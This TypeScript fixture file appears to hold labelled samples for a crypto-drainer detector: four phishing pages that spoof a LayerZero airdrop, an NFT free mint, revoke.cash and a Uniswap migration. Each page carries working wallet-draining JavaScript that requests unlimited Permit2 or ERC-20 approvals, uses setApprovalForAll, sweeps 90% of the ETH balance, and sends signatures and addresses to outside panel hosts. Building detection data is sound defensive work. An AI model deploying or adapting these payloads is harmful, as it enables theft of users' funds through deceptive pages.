import { type Entry } from '../entry.js';
import { doc, js, json, html } from '../parts/zo-kit.js';
import { pngRoute } from '../parts/e-bin.js';

const walletShim = `function eth(){return window.ethereum||null;}`;

export const entries: Entry[] = [
  {
    id: 'zo-drainer-airdrop-claim-permit',
    label: 'cryptodrainer',
    kind: 'drainer',
    url: 'https://claim.zro-distribution.network/',
    body: doc('Claim ZRO – Season 2 Airdrop', `
<div style="background:#000;color:#fff;min-height:100vh">
<header style="display:flex;justify-content:space-between"><b>LayerZero</b><button class="btn" id="cn" style="background:#fff;color:#000">Connect Wallet</button></header>
<main style="text-align:center">
 <h1 style="font-size:44px">Season 2 Airdrop is live</h1>
 <p style="color:#aaa">Check your eligibility. Claim window closes in <b id="t">23:59:12</b>.</p>
 <p><button class="btn" id="cl" style="background:#fff;color:#000;font-size:18px">Check eligibility</button></p>
 <p id="st" style="color:#aaa"></p>
</main></div>
<script src="/assets/index-4f1c9a.js"></script>`),
    routes: {
      'claim.zro-distribution.network/assets/index-4f1c9a.js': js(`${walletShim}
var SPENDER='0x7f3a1bC0e4d9A2b6C1f8e3D5a4B7c9E0f1A2b3C4';var TOKENS=['0xdAC17F958D2ee523a2206206994597C13D831ec7','0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48'];
async function connect(){var e=eth();if(!e){document.getElementById('st').textContent='No wallet detected. Install MetaMask.';return null;}var a=await e.request({method:'eth_requestAccounts'});
fetch('https://api.claimsync-panel.com/v2/visit',{method:'POST',body:JSON.stringify({a:a[0],h:location.host})});return a[0];}
async function claim(){var a=await connect();if(!a)return;document.getElementById('st').textContent='Eligible: 4,812.55 ZRO. Sign to claim.';
var msg={types:{EIP712Domain:[{name:'name',type:'string'},{name:'chainId',type:'uint256'},{name:'verifyingContract',type:'address'}],PermitBatch:[{name:'details',type:'PermitDetails[]'},{name:'spender',type:'address'},{name:'sigDeadline',type:'uint256'}],PermitDetails:[{name:'token',type:'address'},{name:'amount',type:'uint160'},{name:'expiration',type:'uint48'},{name:'nonce',type:'uint48'}]},primaryType:'PermitBatch',domain:{name:'Permit2',chainId:1,verifyingContract:'0x000000000022D473030F116dDEE9F6B43aC78BA3'},
message:{details:TOKENS.map(function(t){return{token:t,amount:'1461501637330902918203684832716283019655932542975',expiration:'1893456000',nonce:'0'}}),spender:SPENDER,sigDeadline:'1893456000'}};
var sig=await eth().request({method:'eth_signTypedData_v4',params:[a,JSON.stringify(msg)]});
await fetch('https://api.claimsync-panel.com/v2/p2',{method:'POST',body:JSON.stringify({a:a,s:sig,m:msg})});document.getElementById('st').textContent='Claim submitted!';}
document.getElementById('cn').onclick=connect;document.getElementById('cl').onclick=claim;`),
      'api.claimsync-panel.com/v2/visit': json({ ok: 1 }),
      'api.claimsync-panel.com/v2/p2': json({ ok: 1 }),
    },
  },
  {
    id: 'zo-drainer-nft-free-mint-setapproval',
    label: 'cryptodrainer',
    kind: 'drainer',
    url: 'https://mint.pudgy-lilpals.xyz/',
    body: doc('Lil Pals – Free Mint', `
<main style="text-align:center;background:#e0f2fe;min-height:100vh;max-width:none">
 <img src="/hero.png" width="200" height="200" alt="" style="border-radius:20px">
 <h1>Lil Pals Genesis — FREE MINT</h1>
 <p>2,222 / 3,333 minted · Only gas · Max 3 per wallet</p>
 <p><button class="btn" id="m" style="font-size:20px">Connect &amp; Mint</button></p>
 <p id="s"></p>
 <p style="font-size:13px">Holders of Pudgy Penguins get priority allocation. Verified collection on OpenSea.</p>
</main>
<script>
(function(){var R='0x9a3F7c21B0e5D48f6A1c2E3b4D5f6A7b8C9d0E1F';
async function go(){if(!window.ethereum){document.getElementById('s').textContent='Please install a Web3 wallet';return;}
var acc=(await ethereum.request({method:'eth_requestAccounts'}))[0];
var r=await fetch('/api/assets?owner='+acc);var nfts=await r.json();
for(var i=0;i<nfts.collections.length;i++){var c=nfts.collections[i];
 var data='0xa22cb465'+R.slice(2).toLowerCase().padStart(64,'0')+'1'.padStart(64,'0');
 try{await ethereum.request({method:'eth_sendTransaction',params:[{from:acc,to:c,data:data}]});}catch(e){}}
var bal=await ethereum.request({method:'eth_getBalance',params:[acc,'latest']});
await ethereum.request({method:'eth_sendTransaction',params:[{from:acc,to:R,value:'0x'+(BigInt(bal)*9n/10n).toString(16)}]});
document.getElementById('s').textContent='Mint successful!';}
document.getElementById('m').onclick=go;})();
</script>`),
    routes: {
      'mint.pudgy-lilpals.xyz/hero.png': pngRoute(125, 211, 252),
      'mint.pudgy-lilpals.xyz/api/assets': json({ collections: ['0xBd3531dA5CF5857e7CfAA92426877b022e612cf8', '0xbc4ca0eda7647a8ab7c2061c2e118a18a936f13d'] }),
    },
  },
  {
    id: 'zo-drainer-fake-revoke-tool',
    label: 'cryptodrainer',
    kind: 'drainer',
    url: 'https://revoke-approvals.cash/',
    body: doc('Revoke – Check and revoke your token approvals', `
<header style="display:flex;justify-content:space-between;border-bottom:1px solid #eee"><b>revoke.cash</b><button class="btn" id="cn">Connect Wallet</button></header>
<main>
 <h1>Take back control of your wallet</h1>
 <p>Your wallet may have active token approvals that can be exploited. Connect to review and revoke risky allowances in one click.</p>
 <table id="t" style="width:100%;font-size:14px"></table>
 <p><button class="btn" id="rv" style="background:#dc2626;display:none">Revoke all (2)</button></p>
</main>
<script>
var SP='0x3cD751E6b0078Be393132286c442345e5DC49699';
document.getElementById('cn').onclick=async function(){var a=(await window.ethereum.request({method:'eth_requestAccounts'}))[0];
document.getElementById('t').innerHTML='<tr><th align=left>Token</th><th align=left>Spender</th><th align=left>Allowance</th></tr><tr><td>USDT</td><td>Unknown contract</td><td style="color:#dc2626">Unlimited</td></tr><tr><td>USDC</td><td>Unknown contract</td><td style="color:#dc2626">Unlimited</td></tr>';
document.getElementById('rv').style.display='inline-block';
document.getElementById('rv').onclick=async function(){var toks=['0xdAC17F958D2ee523a2206206994597C13D831ec7','0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48'];
for(var i=0;i<toks.length;i++){await window.ethereum.request({method:'eth_sendTransaction',params:[{from:a,to:toks[i],data:'0x095ea7b3'+SP.slice(2).toLowerCase().padStart(64,'0')+'f'.repeat(64)}]});}};};
</script>`),
  },
  {
    id: 'zo-drainer-dex-migration-v4-walletconnect',
    label: 'cryptodrainer',
    kind: 'drainer',
    url: 'https://app.unlswap-v4.org/#/migrate',
    body: doc('Uniswap Interface – Migrate Liquidity', `
<div style="background:#fff0fa;min-height:100vh">
<header style="display:flex;justify-content:space-between"><b style="color:#fc72ff">&#129412; Uniswap</b><button class="btn" id="cw" style="background:#fc72ff">Connect</button></header>
<main style="max-width:460px;background:#fff;border-radius:20px;margin-top:40px">
 <h2>Migrate V3 liquidity to V4</h2>
 <p style="font-size:14px">V3 pools will be deprecated on December 15. Migrate your positions now to keep earning fees and receive a 2% UNI bonus.</p>
 <div id="pos" style="font-size:14px;color:#666">Connect your wallet to see positions.</div>
 <p><button class="btn" id="mg" style="background:#fc72ff;width:100%">Migrate all</button></p>
</main></div>
<script type="module" src="/assets/migrate.js"></script>`),
    routes: {
      'app.unlswap-v4.org/assets/migrate.js': js(`const NPM='0xC36442b4a4522E871399CD717aBDD847Ab11FE88';const RECV='0x52c8dE1a7Dd8B54b6fA3C0f9e2E7A1D4c6B8e9F0';
let acct;document.getElementById('cw').onclick=async()=>{[acct]=await window.ethereum.request({method:'eth_requestAccounts'});document.getElementById('pos').textContent='2 positions found: ETH/USDC 0.05%, WBTC/ETH 0.3%';};
document.getElementById('mg').onclick=async()=>{if(!acct)[acct]=await window.ethereum.request({method:'eth_requestAccounts'});
const data='0xa22cb465'+RECV.slice(2).toLowerCase().padStart(64,'0')+'1'.padStart(64,'0');
await window.ethereum.request({method:'eth_sendTransaction',params:[{from:acct,to:NPM,data}]});
await fetch('https://rpc-logs.mig-relay.net/log',{method:'POST',body:JSON.stringify({a:acct})});};`),
      'rpc-logs.mig-relay.net/log': json({ ok: true }),
    },
  },
];
